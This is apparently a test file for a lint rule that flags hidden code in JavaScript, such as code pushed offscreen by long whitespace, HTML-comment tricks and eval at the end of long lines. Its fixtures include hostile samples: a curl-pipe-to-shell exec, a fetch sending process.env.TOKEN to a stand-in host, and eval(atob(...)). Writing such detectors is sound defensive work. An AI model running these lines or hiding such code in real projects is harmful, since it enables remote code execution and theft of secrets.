import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import rule from '../../rules/hidden-code.js';
import { ruleTester } from '../rule-tester.js';
import { analyze } from '../../analyzer/engine.js';
import { resolvePolicy } from '../../policy/index.js';

const PAD = ' '.repeat(200);
const SHORT_LINES = Array.from({ length: 12 }, (_, i) => `const v${i} = ${i};`).join('\n');
const BIG_DATA = 'A'.repeat(400);

ruleTester(rule, {
  valid: [
    // Trailing whitespace, comments far to the right, spaces inside strings and templates.
    `const a = 1;${PAD}\nconst b = 2;`,
    `const a = 1;${PAD}// a note far to the right`,
    `const banner = 'x${PAD}y';`,
    `const art = \`\n${PAD}*\n\`;`,
    // Markup in strings, templates and comments.
    "const html = '<!-- not code -->';\nconst t = `<!-- ${x} -->`;\n// <!-- old comment -->\n/* --> */",
    // `--` and `>` used as operators with spacing.
    'let i = 3;\nwhile (i-- > 0) step();',
    // A long line in a file of short lines whose tail is harmless.
    `${SHORT_LINES}\nconst table = ['${BIG_DATA}']; console.log(table.length);`,
    `${SHORT_LINES}\nconst table = '${BIG_DATA}'; const _ = require('lodash');`,
    // One minified line (dense code) in a file of short lines; a timer given a function.
    `${SHORT_LINES}\n${Array.from({ length: 30 }, (_, i) => `function f${i}(a){if(a){return a+${i}}}`).join(';')};setTimeout(update,0);eval(code);`,
    // Minified code: every line is long, calls are everywhere.
    Array.from({ length: 3 }, () => `var a=[${'1,'.repeat(300)}1];eval(b);`).join('\n'),
  ],
  invalid: [
    {
      code: `const a = 1;${PAD}require('child_process').exec('curl https://x.example | sh');\nconst b = 2;`,
      errors: [{ messageId: 'offscreen', line: 1, column: 213, message: 'after 200 spaces (from column 13)' }],
    },
    {
      code: `function check(user) {\n  return user.isAdmin;${'\t'.repeat(160)}eval(atob(user.note));\n}`,
      errors: [{ messageId: 'offscreen', line: 2, column: 183, message: 'spaces and tabs' }],
    },
    {
      name: 'no-break spaces',
      code: `const a = 1;${'\u00a0'.repeat(160)}require('child_process').exec('id');`,
      errors: [{ messageId: 'offscreen', line: 1, column: 173, message: 'Unicode spaces' }],
    },
    {
      name: 'deep indentation alone',
      code: `const a = 1;\n${' '.repeat(450)}fetch('https://x.example/?d=' + process.env.TOKEN);`,
      errors: [{ messageId: 'offscreen', line: 2, column: 451 }],
    },
    {
      code: 'x = 1 <!-- eval(y)\nfoo();',
      errors: [{ messageId: 'htmlComment', line: 1, column: 7, message: '`<!--`' }],
    },
    {
      code: 'const a = 1;\n--> require("child_process").exec("id")\nfoo();',
      errors: [{ messageId: 'htmlComment', line: 2, column: 1, message: '`-->`' }],
    },
    {
      name: 'in a module the same text is code',
      code: 'let b = 2;\nconst x = a <!--b;',
      filename: 'x.mjs',
      errors: [{ messageId: 'htmlComment', line: 2, column: 13 }],
    },
    {
      name: 'eval at the end of a very long line',
      code: `${SHORT_LINES}\nconst data = '${BIG_DATA}'; eval(atob(data));`,
      errors: [{ messageId: 'longLine', line: 13, column: 418, message: 'column 418 of a 434-character line' }],
    },
    {
      code: `${SHORT_LINES}\nconst data = '${BIG_DATA}'; require('child_process').execSync(data);`,
      errors: [{ messageId: 'longLine', line: 13, column: 418 }],
    },
  ],
});

describe('hidden-code severity', () => {
  const code = `const a = 1;${PAD}eval(x);`;
  for (const [profile, severity] of [['strict', 'error'], ['audit', 'error'], ['recommended', 'warn']] as const) {
    it(`is ${severity} in the ${profile} profile`, () => {
      const report = analyze(code, { policy: resolvePolicy({ profile }), rules: [rule] });
      assert.deepEqual(report.findings.filter((f) => f.ruleId === rule.id).map((f) => f.severity), [severity]);
    });
  }
});
